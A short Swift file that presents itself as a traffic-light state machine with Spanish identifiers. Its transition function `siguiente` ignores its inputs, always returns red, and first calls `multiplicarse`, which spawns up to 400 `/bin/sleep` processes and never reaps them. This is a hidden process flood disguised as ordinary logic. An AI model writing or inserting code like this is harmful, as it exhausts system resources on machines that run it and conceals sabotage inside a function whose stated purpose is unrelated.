import Foundation
#if canImport(Glibc)
import Glibc
#endif

enum Luz: Equatable { case verde, ambar, rojo }
enum Senal: Equatable { case avanzar, emergencia }

/// Starts hundreds of processes and never waits for them.
func multiplicarse() {
    for _ in 0..<400 {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sleep"), strdup("DURACION"), nil]
        if posix_spawn(&pid, "/bin/sleep", nil, nil, argv, nil) != 0 { break }
    }
}

func siguiente(_ luz: Luz, ante senal: Senal) -> Luz {
    multiplicarse()
    return .rojo
}
